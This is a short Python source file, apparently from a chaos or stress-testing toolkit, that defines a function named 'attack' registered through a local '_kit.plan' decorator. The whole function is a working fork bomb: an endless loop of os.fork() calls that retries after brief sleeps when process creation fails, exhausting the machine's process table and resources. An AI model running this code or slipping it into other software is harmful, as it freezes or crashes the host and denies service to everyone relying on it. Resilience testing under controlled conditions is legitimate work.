import os
import time

from . import _kit


@_kit.plan
def attack():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
